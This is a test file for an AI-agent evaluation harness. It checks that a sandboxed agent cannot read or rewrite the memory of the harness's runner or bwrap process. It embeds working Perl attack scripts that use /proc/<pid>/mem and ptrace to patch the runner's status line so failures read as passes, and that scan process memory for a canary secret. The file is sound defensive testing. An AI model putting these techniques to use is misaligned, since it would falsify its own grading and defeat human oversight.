/**
 * A hostile agent against the memory of the harness's processes it shares a sandbox (and a user)
 * with (issue #35): the persistent shell's runner, which waits for each call and writes its status,
 * and in bwrap the sandbox's pid 1. Without Yama (as here and on GitHub's runners) a process of the
 * same user may read and write another's memory (/proc/<pid>/mem) and trace it (ptrace), unless
 * the kernel marks that one non-dumpable. Through the real harness (oracle agent: one bash call per
 * solution entry), from an agent's call:
 * - every harness process among its ancestors is closed to it: /proc/<pid>/mem cannot be opened
 *   (a control: it does open its own);
 * - a background job cannot read what the runner holds after the job started (a later call's text,
 *   standing for that call's nonce);
 * - rewriting the runner's status line in its memory (through /proc/<pid>/mem, or ptrace and
 *   PTRACE_POKEDATA) so that it reports every later call as passed leaves failing calls failing.
 */
import { randomBytes } from "node:crypto";
import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { mkdtemp } from "node:fs/promises";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { createAgent } from "../../src/agents/registry.js";
import { defaultRunOptions } from "../../src/run/options.js";
import type { SandboxMode } from "../../src/scenario/types.js";
import { FAKE_TOOL } from "../sandbox/fake-tool.js";
import { findBwrapProblem } from "../support/processes.js";
import { makeScenario } from "../support/scenario-factory.js";
import { eventsOf, runSingleTrial } from "../support/single-trial.js";
import { makeTempDir } from "../support/temp-dirs.js";

const CANARY_KEY = "sk-ant-canary-runner-memory-3c2d1e";

/**
 * Perl (no compiler needed) against every ancestor of its own process, each named by what it is:
 * `runner` (its command line is the runner's script), `bwrap` (the sandbox's pid 1), or `other`.
 * - `probe`: opens each one's /proc/<pid>/mem for reading and writing, and its own.
 * - `mem`: in each one it can open, rewrites the runner's status format `"%s %s\n"` (the word as
 *   bash parsed it) into `"%s 00\n"`, the same length: every later status line would say 0.
 * - `ptrace`: the same rewrite through PTRACE_ATTACH, PTRACE_PEEKDATA and PTRACE_POKEDATA.
 */
const ATTACKER = String.raw`use strict;
my $mode = shift @ARGV;
my $from = '"%s %s\n"';
my $to = '"%s 00\n"';
my @chain;
my $pid = getppid();
while ($pid > 0) {
  push @chain, $pid;
  open(my $stat, "<", "/proc/$pid/stat") or last;
  my ($parent) = <$stat> =~ /\)\s+\S+\s+(\d+)/;
  $pid = $parent // 0;
}
sub kind {
  my ($p) = @_;
  open(my $cmd, "<", "/proc/$p/cmdline") or return "gone";
  local $/;
  my $line = <$cmd> // "";
  return "bwrap" if $line =~ /^[^\0]*bwrap\0/;
  return "runner" if $line =~ /IFS= read -r/;
  return "other";
}
sub regions {
  my ($p) = @_;
  open(my $maps, "<", "/proc/$p/maps") or return ();
  my @found;
  while (my $region = <$maps>) {
    my ($a, $b, $perms) = $region =~ /^([0-9a-f]+)-([0-9a-f]+)\s+(\S+)/ or next;
    next unless $perms =~ /^rw/ && length($a) <= 12 && hex($b) - hex($a) <= 2**24;
    push @found, [hex($a), hex($b)];
  }
  return @found;
}
open(my $self, "+<:raw", "/proc/self/mem") and print "OPENED-SELF\n";
for my $p (@chain) {
  my $kind = kind($p);
  if ($mode eq "ptrace") {
    if (syscall(101, 16, $p, 0, 0) == -1) { print "DENIED $kind $p: $!\n"; next; }
    waitpid($p, 0x40000000);
    print "TRACED $kind $p\n";
    my $patched = 0;
    for my $r (regions($p)) {
      my ($at, $end) = @$r;
      my $bytes = "";
      for (my $addr = $at; $addr < $end; $addr += 8) {
        my $word = "\0" x 8;
        last if syscall(101, 2, $p, $addr, $word) == -1;
        $bytes .= $word;
      }
      my $i = 0;
      while (($i = index($bytes, $from, $i)) >= 0) {
        substr($bytes, $i, length($from)) = $to;
        my $first = $i - $i % 8;
        for (my $w = $first; $w < $i + length($to); $w += 8) {
          syscall(101, 5, $p, $at + $w, unpack("q<", substr($bytes, $w, 8))) == -1 or $patched++;
        }
        $i += length($to);
      }
    }
    syscall(101, 17, $p, 0, 0);
    print "PATCHED $kind $p $patched\n";
    next;
  }
  my $mem;
  unless (open($mem, "+<:raw", "/proc/$p/mem")) { print "DENIED $kind $p: $!\n"; next; }
  print "OPENED $kind $p\n";
  next unless $mode eq "mem";
  my $patched = 0;
  for my $r (regions($p)) {
    my ($at, $end) = @$r;
    sysseek($mem, $at, 0) or next;
    my $got = sysread($mem, my $bytes, $end - $at) or next;
    my $i = 0;
    while (($i = index($bytes, $from, $i)) >= 0) {
      sysseek($mem, $at + $i, 0) and syswrite($mem, $to) and $patched++;
      $i += length($to);
    }
  }
  print "PATCHED $kind $p $patched\n";
}
print "ATTACK-END\n";
`;

/**
 * A background job that waits for the file `go`, then reads the memory of every runner it sees (a
 * process running the runner's script, not bwrap's, whose parent does not: not a call's fork) for the canary's
 * prefix, and writes what it found, hex-encoded, to found.txt.
 */
const READER = String.raw`use strict;
my ($prefix) = @ARGV;
select(undef, undef, undef, 0.05) until -e "go";
my %found;
my ($runners, $read) = (0, 0);
sub cmdline { open(my $f, "<", "/proc/$_[0]/cmdline") or return ""; local $/; return <$f> // ""; }
sub runs_runner { my $line = cmdline($_[0]); return $line =~ /IFS= read -r/ && $line !~ /^[^\0]*bwrap\0/; }
sub parent { open(my $f, "<", "/proc/$_[0]/stat") or return 0; my ($p) = <$f> =~ /\)\s+\S+\s+(\d+)/; return $p // 0; }
opendir(my $proc, "/proc");
for my $p (grep { /^\d+$/ } readdir($proc)) {
  next unless runs_runner($p) && !runs_runner(parent($p));
  $runners++;
  open(my $maps, "<", "/proc/$p/maps") or next;
  open(my $mem, "<:raw", "/proc/$p/mem") or next;
  $read++;
  while (my $region = <$maps>) {
    my ($a, $b, $perms) = $region =~ /^([0-9a-f]+)-([0-9a-f]+)\s+(\S+)/ or next;
    next unless $perms =~ /^r/ && length($a) <= 12 && hex($b) - hex($a) <= 2**26;
    sysseek($mem, hex($a), 0) or next;
    sysread($mem, my $bytes, hex($b) - hex($a)) or next;
    $found{$1} = 1 while $bytes =~ /(\Q$prefix\E[0-9a-f]{18})/g;
  }
}
open(my $out, ">", "found.txt");
print $out "RUNNERS $runners READ $read\n";
print $out "FOUND " . unpack("H*", $_) . "\n" for sort keys %found;
print $out "READ-END\n";
`;

const hex = (text: string) => Buffer.from(text).toString("hex");

function setUp(): { dir: string; tool: string } {
  const dir = makeTempDir("ltt-hostile-runner-memory-");
  const tool = path.join(dir, "bin", "fake-tool");
  mkdirSync(path.dirname(tool));
  writeFileSync(tool, FAKE_TOOL);
  chmodSync(tool, 0o755);
  return { dir, tool };
}

async function runCalls(mode: SandboxMode, solution: string[]) {
  const { dir, tool } = setUp();
  const outDir = await mkdtemp(path.join(dir, "out-"));
  const scenario = makeScenario({
    id: "runner-memory",
    target: { binary: tool, env: {} },
    files: { "attack.pl": ATTACKER, "reader.pl": READER },
    solution,
    evaluation: { gates: [{ type: "no_transcript_errors", weight: 1 }] },
  });
  const options = defaultRunOptions({ outDir, agent: "oracle", trialTimeoutMs: 90_000, sandbox: mode });
  const { output, events } = await runSingleTrial(scenario, options, createAgent("oracle", {}), {
    canaryKey: CANARY_KEY,
  });
  return { report: output.report, results: eventsOf(events, "tool_result") };
}

/** Lines of an attack's output that name a harness process it could open or trace. */
const reached = (stdout: string) =>
  stdout.split("\n").filter((line) => /^(OPENED|TRACED) (runner|bwrap) /.test(line));

const bwrapProblem = findBwrapProblem();
if (bwrapProblem) console.warn(`skipping the bwrap runner-memory tests: ${bwrapProblem}`);

for (const mode of ["bwrap", "local"] as const) {
  describe.skipIf(mode === "bwrap" && bwrapProblem !== null)(
    `the harness's processes in the agent's reach keep their memory to themselves (${mode})`,
    () => {
      it("no harness process among a call's ancestors lets it open its memory, in a plain call or a bash of its own", async () => {
        // The second call has a function in its state: it runs in a bash of its own, not a fork.
        const { results } = await runCalls(mode, [
          "perl attack.pl probe",
          "helper() { :; }; perl attack.pl probe",
        ]);
        for (const result of results.slice(0, 2)) {
          expect(result.stdout).toContain("ATTACK-END");
          // The control: it opens its own memory, and found the runner among its ancestors.
          expect(result.stdout).toContain("OPENED-SELF");
          expect(result.stdout).toMatch(/^(OPENED|DENIED) runner /m);
          expect(reached(result.stdout)).toEqual([]);
        }
      }, 120_000);

      it("a background job cannot read what the runner holds after it started", async () => {
        const canaryPrefix = "lttrunnercanary";
        const canary = `${canaryPrefix}${randomBytes(9).toString("hex")}`;
        const { results } = await runCalls(mode, [
          `nohup perl reader.pl ${canaryPrefix} >/dev/null 2>&1 &`,
          // The runner reads this call's text after the job started; the job reads while it runs.
          `: ${canary}; touch go; for i in $(seq 100); do [ -e found.txt ] && grep -q READ-END found.txt && break; sleep 0.1; done`,
          "cat found.txt",
        ]);
        const found = results[2]?.stdout ?? "";
        expect(found).toContain("READ-END");
        // The control: the job saw the runner.
        expect(found).toMatch(/^RUNNERS [1-9]/m);
        expect(found).toContain("READ 0\n");
        expect(found).not.toContain(hex(canary));
      }, 120_000);

      it.each(["mem", "ptrace"])(
        "rewriting the runner's status line through %s leaves failing calls failing",
        async (how) => {
          const { report, results } = await runCalls(mode, [
            `perl attack.pl ${how}`,
            "fake-tool fail 2",
            "cat /nonexistent",
            "echo ran",
          ]);
          expect(results[0]?.stdout).toContain("ATTACK-END");
          expect(results.map((result) => result.exit_code).slice(1, 4)).toEqual([2, 1, 0]);
          expect(results[0]?.stdout).toMatch(/^DENIED runner /m);
          expect(reached(results[0]?.stdout ?? "")).toEqual([]);
          expect(results[3]?.stdout).toBe("ran\n");
          expect(report.gates[0]).toMatchObject({ gate_type: "no_transcript_errors", passed: false });
          expect(report.outcome).toBe("fail");
        },
        120_000,
      );
    },
  );
}
